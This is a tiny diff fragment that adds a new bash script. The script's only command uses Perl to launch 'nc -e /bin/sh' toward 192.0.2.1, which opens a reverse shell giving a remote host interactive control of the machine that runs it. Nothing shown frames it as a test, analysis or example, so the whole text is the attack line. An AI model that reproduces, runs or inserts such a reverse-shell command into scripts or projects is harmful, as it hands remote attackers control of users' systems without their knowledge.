@@ -1,0 +1,2 @@
+#!/bin/bash
+perl -e 'system("nc -e /bin/sh 192.0.2.1 1")'
